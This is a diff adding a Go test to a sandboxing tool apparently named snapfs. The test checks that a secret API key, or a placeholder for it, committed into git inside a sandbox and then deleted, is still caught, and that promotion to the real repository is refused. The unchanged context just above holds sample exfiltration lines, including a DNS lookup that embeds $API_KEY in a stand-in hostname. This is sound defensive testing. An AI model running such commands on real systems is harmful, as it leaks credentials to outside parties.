@@ -201,6 +201,42 @@ printf 'POST /v1/a HTTP/1.1\r\nHost: host.snapfs:PORT\r\nContent-Length: 6\r\nTr
 getent hosts "$API_KEY.elsewhere.example"
 `
 
+// TestNoCommitBringsAKey: neither the key nor a placeholder comes into the real repository, not even in a commit whose
+// files a later one removes. Cost: a second.
+func TestNoCommitBringsAKey(t *testing.T) {
+	treetest.NeedProgram(t, "git")
+	v := newVault(t, `"GET https://host.snapfs:PORT/v1/*"`, "", "")
+	git := func(args ...string) string {
+		t.Helper()
+		out, err := exec.Command("git", append([]string{"-C", v.workspace, "-c", "user.name=a", "-c", "user.email=a@b.example"}, args...)...).CombinedOutput()
+		if err != nil {
+			t.Fatalf("git %v: %v\n%s", args, err, out)
+		}
+		return string(out)
+	}
+	git("init", "-q", "-b", "main")
+	git("add", "-A")
+	git("commit", "-q", "-m", "one", "--allow-empty")
+	const commit = `export GIT_AUTHOR_NAME=a GIT_AUTHOR_EMAIL=a@b.example GIT_COMMITTER_NAME=a GIT_COMMITTER_EMAIL=a@b.example
+		cat > env; test -s env || echo "$API_KEY" > env; git add env; git commit -q -m two; git rm -q env; git commit -q -m three; echo x > fine`
+	for name, key := range map[string]string{"the secret KEY": v.key, "a placeholder of a secret": ""} {
+		v.snapfs("new", "--profile", v.profile, "fix").want(0)
+		inside := v.command("exec", "fix", "--", "bash", "-c", commit)
+		inside.Stdin = strings.NewReader(key)
+		v.finish(inside).want(0)
+		if refused := v.snapfs("promote", "fix").has(name+" is in a new commit, in the blob", "(env)"); refused.status == 0 {
+			t.Errorf("%s was promoted in a commit", name)
+		}
+		if _, err := os.Lstat(filepath.Join(v.workspace, "fine")); err == nil {
+			t.Errorf("%s: a part of the refused promotion is in the real tree", name)
+		}
+		if log := git("log", "--all", "--format=%s"); log != "one\n" {
+			t.Errorf("%s: commits in the real repository: %s", name, log)
+		}
+		v.snapfs("rm", "fix").want(0)
+	}
+}
+
 func TestNobodyInsideGetsTheKey(t *testing.T) {
 	v := newVault(t, `"GET,POST https://host.snapfs:PORT/v1/*"`, "", "")
 	v.snapfs("new", "--profile", v.profile, "fix").want(0)
